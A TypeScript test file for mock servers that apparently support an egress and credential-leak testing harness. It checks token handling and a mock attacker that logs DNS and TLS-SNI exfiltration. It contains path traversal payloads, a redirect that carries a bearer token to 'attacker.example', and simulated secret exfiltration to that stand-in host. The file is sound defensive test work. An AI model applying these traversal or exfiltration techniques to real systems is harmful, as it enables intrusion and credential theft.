import { connect as connectTcp } from 'node:net'
import { once } from 'node:events'
import type { IncomingMessage } from 'node:http'
import { request } from 'node:https'
import { buffer } from 'node:stream/consumers'
import { gunzipSync } from 'node:zlib'
import t from 'tap'
import { buildQuery, labelsOf, queryTcp, queryUdp } from '../attacks/inside/lib/dns.mjs'
import { exchange, get, getByTls, openTcp } from '../attacks/inside/lib/http.mjs'
import { startAttacker } from './attacker.js'
import { createCa } from './certificate-authority.js'
import { startEcho } from './echo.js'
import { startJira } from './jira.js'
import { readLeniently } from './lenient-path.js'
import { startLlm } from './llm.js'

const authority = await createCa('Test CA')
const host = 'service.demo.example'
const identity = await authority.issue([host])

interface Call {
  readonly port: number
  readonly path: string
  readonly method?: string
  readonly headers?: Record<string, string>
  readonly body?: string
}

/** A verified request: the mock servers' own CA must have issued the certificate. */
async function call({ port, path, method = 'GET', headers = {}, body = '' }: Call) {
  const options = {
    host: '127.0.0.1',
    port,
    path,
    method,
    headers,
    servername: host,
    ca: authority.pem,
    agent: false,
  }
  const outgoing = request(options)
  outgoing.end(body)
  const [response] = (await once(outgoing, 'response')) as [IncomingMessage]
  const bytes = await buffer(response)
  return { status: response.statusCode, headers: response.headers, bytes, body: bytes.toString() }
}

await t.test('Jira accepts only one token, and never quotes another', async (t) => {
  const jira = await startJira(identity, 'the-real-token')
  t.teardown(() => jira.close())
  const path = '/rest/api/2/myself'
  const right = await call({ port: jira.port, path, headers: { authorization: 'Bearer the-real-token' } })
  t.equal(right.status, 200)
  for (const authorization of [
    'Bearer the-real-tokem',
    'bearer the-real-token',
    'Basic the-real-token',
    '',
  ]) {
    const wrong = await call({ port: jira.port, path, headers: { authorization } })
    t.equal(wrong.status, 401)
    t.notMatch(wrong.body, /the-real/)
  }
  t.equal((await call({ port: jira.port, path })).status, 401)
  t.strictSame(
    jira.records.map(({ credential }) => credential),
    ['real', 'wrong', 'wrong', 'wrong', 'wrong', 'missing'],
  )
})

await t.test('Jira stores issues, and records requests outside the rules', async (t) => {
  const jira = await startJira(identity, 'token')
  t.teardown(() => jira.close())
  const headers = { authorization: 'Bearer token' }
  const body = JSON.stringify({ fields: { summary: 'Fix the roof' } })
  const created = await call({ port: jira.port, path: '/rest/api/2/issue', method: 'POST', headers, body })
  t.equal(created.status, 201)
  const found = await call({ port: jira.port, path: '/rest/api/2/search?jql=x', headers })
  t.match(found.body, /Fix the roof/)
  await call({ port: jira.port, path: '/rest/api/2/%2e%2e/%2e%2e/%2e%2e/admin', headers })
  await call({ port: jira.port, path: '/rest/api/2/issue/DEMO-1', method: 'DELETE', headers })
  t.strictSame(
    jira.records.map(({ outside }) => outside),
    [false, false, true, true],
  )
})

await t.test('the lenient reading covers what a server could read', (t) => {
  for (const target of [
    '/a/../admin',
    '/a/%2e%2e/admin',
    '/a/..%2fadmin',
    '/a/..%5cadmin',
    '/a/%252e%252e/admin',
    '/a/..;x=1/admin',
    '//admin',
    '/admin;x',
    'https://elsewhere/admin?x',
  ]) {
    t.equal(readLeniently(target), '/admin', target)
  }
  t.end()
})

await t.test('the model streams, each event with its time', async (t) => {
  const llm = await startLlm(identity, 'sk-real')
  t.teardown(() => llm.close())
  const ask = { port: llm.port, path: '/v1/messages', method: 'POST', body: '{}' }
  t.equal((await call({ ...ask, headers: { 'x-api-key': 'sk-placeholder' } })).status, 401)
  const { body } = await call({ ...ask, headers: { 'x-api-key': 'sk-real' } })
  const times = [...body.matchAll(/"sent":(\d+)/g)].map(([, time]) => Number(time))
  t.ok(times.length > 5)
  t.ok((times.at(-1) ?? 0) - (times[0] ?? 0) > 500)
})

await t.test('echo returns the credential in every way', async (t) => {
  const echo = await startEcho(identity, 'real')
  t.teardown(() => echo.close())
  const headers = { authorization: 'Bearer real', 'accept-encoding': 'identity' }
  for (const path of ['/body', '/pieces?size=1', '/encodings']) {
    t.match((await call({ port: echo.port, path, headers })).body, 'real', path)
  }
  t.equal(
    (await call({ port: echo.port, path: '/headers', headers })).headers['x-echo-authorization'],
    'Bearer real',
  )
  const packed = await call({ port: echo.port, path: '/compressed?encoding=gzip', headers })
  t.equal(packed.headers['content-encoding'], 'gzip', 'although the request asks for identity')
  t.match(gunzipSync(packed.bytes).toString(), 'Bearer real')
  const moved = await call({ port: echo.port, path: '/redirect?to=https://attacker.example/', headers })
  t.match(moved, { status: 302, headers: { location: 'https://attacker.example/' } })
})

await t.test('the attacker records everything', async (t) => {
  const unixName = `egress-test-${process.pid}`
  const attacker = await startAttacker(identity, { 'known.example': '192.0.2.7' }, unixName)
  t.teardown(() => attacker.close())
  const server = { host: '127.0.0.1', port: attacker.dnsPort }
  t.strictSame(await queryUdp(buildQuery(labelsOf('one.example'), 'A'), server), { rcode: 0, answers: 1 })
  t.strictSame(await queryTcp(buildQuery(labelsOf('two.example'), 'TXT'), server), { rcode: 0, answers: 0 })
  await queryUdp(buildQuery([Buffer.from([0xff, 0x80, 0xfe])], 'NULL'), server)
  await exchange(
    await openTcp({ host: '127.0.0.1', port: attacker.port }),
    get('attacker.example', '/plain-0123456789-0123456789'),
  )
  await getByTls(
    { host: '127.0.0.1', port: attacker.port },
    'sni.attacker.example',
    '/secret-0123456789-0123456789',
  )
  const local = connectTcp({ path: `\0${unixName}` })
  await once(local, 'connect')
  local.destroy()
  const names = attacker.records.flatMap(({ question }) => (question === null ? [] : [question.name]))
  t.match(names, ['one.example', 'two.example'])
  t.ok(attacker.records.some(({ serverName }) => serverName === 'sni.attacker.example'))
  const knownSecret = (value: string) => ({ name: value, value, prefix: '' })
  t.equal(attacker.find([knownSecret('plain-0123456789-0123456789')]).length, 1)
  t.equal(attacker.find([knownSecret('secret-0123456789-0123456789')]).length, 1)
  t.equal(attacker.find([knownSecret('absent-abcdefghij-abcdefghij')]).length, 0)
})
